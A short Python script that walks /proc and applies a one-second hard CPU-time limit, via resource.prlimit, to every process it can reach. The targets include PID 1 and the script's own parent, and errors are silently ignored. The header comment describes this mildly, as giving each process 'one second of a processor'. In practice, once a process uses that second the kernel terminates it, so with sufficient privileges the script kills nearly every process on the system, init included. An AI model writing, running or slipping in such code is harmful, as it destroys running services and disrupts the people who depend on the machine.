# lets every process that it can name have one second of a processor
# remark: /proc
# ruff: noqa
import os, resource

for pid in {1, os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())} - {0, os.getpid()}:
    for kind in ("RLIMIT_CPU",):
        try:
            resource.prlimit(pid, getattr(resource, kind), (1, 1))
        except (OSError, ValueError):
            pass
